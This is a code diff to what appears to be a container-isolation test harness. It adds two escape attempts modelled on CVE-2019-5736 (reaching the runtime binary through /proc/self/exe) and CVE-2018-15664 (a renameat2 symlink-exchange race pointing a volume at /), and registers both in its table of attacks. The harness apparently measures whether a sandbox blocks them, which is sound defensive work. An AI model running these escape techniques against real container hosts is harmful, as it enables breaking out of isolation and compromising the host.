@@ -32,6 +32,8 @@ _MS_REMOUNT_BIND = 0x1020
 _USER_KEYRING, _OWN_KEYRING, _KEYCTL_SEARCH, _KEYCTL_READ = -4, -2, 10, 11
 _PTRACE_SEIZE = 0x4206
 _ADJ_STATUS, _STATUS_AT = 0x10, 40  # in struct timex
+_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
+VOLUME, EXCHANGING = "/attacked-volume", "exchanging"
 
 
 def call(name: str, *arguments: int | bytes | bytearray | None) -> int:
@@ -96,6 +98,26 @@ def a_descriptor() -> str:
     if not found:
         raise OSError(errno.EBADF, "none is open")
     return ", ".join(found)
+
+
+def the_runtime() -> str:
+    """Be run in the runtime's place, with its program there to be overwritten (CVE-2019-5736)."""
+    try:
+        return _opened("/proc/self/exe")
+    except OSError as refusal:
+        if refusal.errno != errno.ETXTBSY:
+            raise
+    return "open as soon as it ends"
+
+
+def a_volume() -> str:
+    """Exchange a directory of a volume for a link to / while the host copies (CVE-2018-15664)."""
+    way, link = f"{VOLUME}/way", f"{VOLUME}/link"
+    os.mkdir(way)
+    os.symlink("/", link)
+    print(EXCHANGING, flush=True)
+    while True:  # whether it has worked, whoever copies sees
+        call("renameat2", _AT_FDCWD, way.encode(), _AT_FDCWD, link.encode(), _RENAME_EXCHANGE)
 
 
 def a_key() -> str:
@@ -270,6 +292,8 @@ ATTACKS: dict[str, Callable[[], str]] = {
     "a disk": a_disk,
     "kernel memory": kernel_memory,
     "a left descriptor": a_descriptor,
+    "the runtime": the_runtime,
+    "a volume": a_volume,
     "root's key": a_key,
     "a signal": a_signal,
     "a trace": a_trace,
@@ -290,6 +314,9 @@ ATTACKS: dict[str, Callable[[], str]] = {
     "a changed program": a_program,
     "one kernel": one_kernel,
 }
+
+# These are made while the runtime does something for the container: see measure.py.
+WITH_THE_RUNTIME = ("the runtime", "a volume")
 
 
 def outcome(attack: Callable[[], str]) -> tuple[bool, str]:
@@ -323,5 +350,6 @@ def refusal(name: str) -> Callable[[], str]:
 
 
 if __name__ == "__main__":
-    made = {name: refusal(name) for name in sys.argv[1:]} or ATTACKS
+    alone = {name: attack for name, attack in ATTACKS.items() if name not in WITH_THE_RUNTIME}
+    made = {name: ATTACKS.get(name) or refusal(name) for name in sys.argv[1:]} or alone
     print(json.dumps({name: outcome(attack) for name, attack in made.items()}))
